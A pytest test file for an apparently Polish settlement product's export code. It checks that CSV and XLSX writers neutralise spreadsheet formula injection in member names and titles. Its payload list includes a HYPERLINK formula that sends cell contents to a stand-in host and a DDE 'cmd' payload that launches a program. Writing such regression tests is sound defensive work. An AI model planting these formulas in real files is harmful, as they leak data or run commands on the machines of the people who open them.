"""Every CSV and XLSX the product writes neutralises text that a spreadsheet would run as a
formula (`=`, `+`, `-`, `@`, …) and keeps a line break inside its cell (issue 15)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from sqlalchemy import update

from market.export.tables import Column, Kind, TableSpec
from market.export.writers import CsvDialect, iter_csv, write_xlsx
from market.reports.statement_csv import statement_csv
from market.settlement.settle import Statement
from tests.exports.test_export_web import app, client, sign_in

__all__ = ["app", "client"]

EVIL = [
    '=HYPERLINK("http://x.example/?"&A1;"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tx",
    "Kowalski\r\n=1+1;evil",
    "=evil\n@x",
]


def shown(name: str) -> str:
    """What a cell holds: a `'` before a formula-like start; a line break stays inside."""
    return "'" + name if name[0] in "=+-@\t" else name


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("name", EVIL)
def test_statement_csv_neutralises_the_member_name(name: str) -> None:
    statement = Statement(member=name, period="2026-10")
    statement.local_amount_pln = Decimal("-1.10")
    rows = _rows(statement_csv(statement))
    assert len(rows) == 1 + len(statement.rows())  # a line break adds no row
    for row in rows[1:]:
        assert len(row) == 5
        assert row[0] == shown(name)  # text, not run
    local = next(r for r in rows if r[2] == "local_amount")
    assert local[4] == "-1,10"  # a number keeps its sign


def test_export_csv_and_xlsx_neutralise_text_cells(tmp_path: Any) -> None:
    table = TableSpec("t", "t", (Column("name", Kind.TEXT), Column("n", Kind.DECIMAL, 2)))
    data = [(name, Decimal("-1")) for name in EVIL]
    rows = _rows(b"".join(iter_csv(table, data, CsvDialect.polish(decimal_comma=True))))
    assert [r[0] for r in rows[1:]] == [shown(n) for n in EVIL]
    assert [r[1] for r in rows[1:]] == ["-1,00"] * len(EVIL)
    target = tmp_path / "t.xlsx"
    meta = {"title": "=cmd|' /C calc'!A0", "generated_at": datetime(2026, 10, 1, tzinfo=UTC)}
    write_xlsx(str(target), meta, [(table, data)])
    with zipfile.ZipFile(target) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))
    assert "<f>" not in sheets  # no formula cell anywhere
    assert "'=HYPERLINK" in sheets and "'=cmd" in sheets and ">=1+1" not in sheets


@pytest.mark.anyio
async def test_statement_download_neutralises_a_member_name(
    db: Any, client: TestClient[Litestar]
) -> None:
    from market.access.models import Member

    async with db.session() as s:
        await s.execute(update(Member).where(Member.login == "anna").values(name=EVIL[-2]))
        await s.commit()
    sign_in(client, "anna")
    r = client.get("/statement/csv", params={"month": "2026-10"})
    assert r.status_code == 200
    rows = _rows(r.content)
    # a Polish page writes Polish column names; the cells go through the same writer
    assert rows[0] == ["Członek", "Okres", "Pozycja", "Jednostka", "Wartość"]
    # 17 items (cost and revenue of intraday and of day-ahead trading split) and 10 of the
    # benefits and the month without the cluster, each in one row with the name in one cell
    assert len(rows) == 28 and all(row[0] == EVIL[-2] for row in rows[1:])
